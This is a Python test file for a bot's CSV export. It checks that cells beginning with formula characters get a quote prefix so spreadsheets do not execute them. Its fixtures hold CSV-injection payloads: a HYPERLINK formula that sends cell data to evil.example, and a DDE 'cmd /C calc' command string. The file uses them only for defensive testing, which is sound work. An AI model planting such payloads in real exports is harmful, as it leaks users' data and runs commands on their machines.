"""CSV exports never hand a spreadsheet a formula (issue 10, finding 11).

A key result titled `=HYPERLINK(...)`, a unit `@SUM(...)`, a check-in note starting with `+` or `-`:
opened in a spreadsheet, each would run. Every CSV okrbot writes goes through bot.spreadsheet, which
prefixes such a cell with a single quote (OWASP's advice) and leaves numbers it wrote itself alone.
"""

from __future__ import annotations

import csv
import io

from sqlalchemy import select

from bot.services.checkins import record_checkin
from bot.spreadsheet import FORMULA_STARTS, csv_text, safe_cell
from storage.db import transaction
from storage.models import KeyResult, Objective, Person
from tests.cli.helpers import okrbot
from tests.conftest import EXAMPLE

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def test_every_formula_start_is_quoted_and_numbers_are_not():
    for start in FORMULA_STARTS:
        assert safe_cell(f"{start}1+2") == f"'{start}1+2"
    assert safe_cell("plain -1") == "plain -1"
    assert safe_cell(-3) == -3 and safe_cell(-2.5) == -2.5 and safe_cell(None) == ""
    sheet = csv_text(("a", "b"), [("=1+1", -4), ('say "hi", then\n@go', "x")])
    assert _rows(sheet) == [{"a": "'=1+1", "b": "-4"}, {"a": "say \"hi\", then\n@go", "b": "x"}]


def test_key_result_and_checkin_exports_neutralise_typed_text(monkeypatch, capsys, database_url, sessions, clock):
    assert okrbot(monkeypatch, capsys, database_url, "import", str(EXAMPLE))[0] == 0
    with transaction(sessions) as session:
        kr = session.scalar(select(KeyResult).where(KeyResult.key == "rd-o1-kr1"))
        kr.title, kr.unit, kr.start_value = EVIL, "@SUM(A1:A9)", -5
        session.get(Objective, kr.objective_id).title = "+cmd|' /C calc'!A0"
        person = session.scalar(select(Person).order_by(Person.id))
        person.name = "-2+3"
        record_checkin(session, kr, person_id=person.id, at=clock.now(), source="sandbox", confidence=6,
                       value=-1.5, note="\tthen =1+1")

    code, out, err = okrbot(monkeypatch, capsys, database_url, "export", "--format", "csv")
    assert code == 0, err
    row = next(r for r in _rows(out) if r["kr_key"] == "rd-o1-kr1")
    assert row["key_result"] == "'" + EVIL
    assert row["objective"] == "'+cmd|' /C calc'!A0"
    assert row["unit"] == "'@SUM(A1:A9)"
    assert row["start"] == "-5" and row["current"] == "-1.5"  # numbers okrbot wrote stay numbers

    code, out, err = okrbot(monkeypatch, capsys, database_url, "export", "--format", "csv", "--checkins")
    assert code == 0, err
    (mine,) = [r for r in _rows(out) if r["kr_key"] == "rd-o1-kr1" and r["source"] == "sandbox"]
    assert (mine["key_result"], mine["person_name"], mine["note"]) == ("'" + EVIL, "'-2+3", "'\tthen =1+1")
    assert mine["value"] == "-1.5"
    for line in _rows(out):
        assert not any(cell.startswith(FORMULA_STARTS) for cell in line.values() if not _number(cell))


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
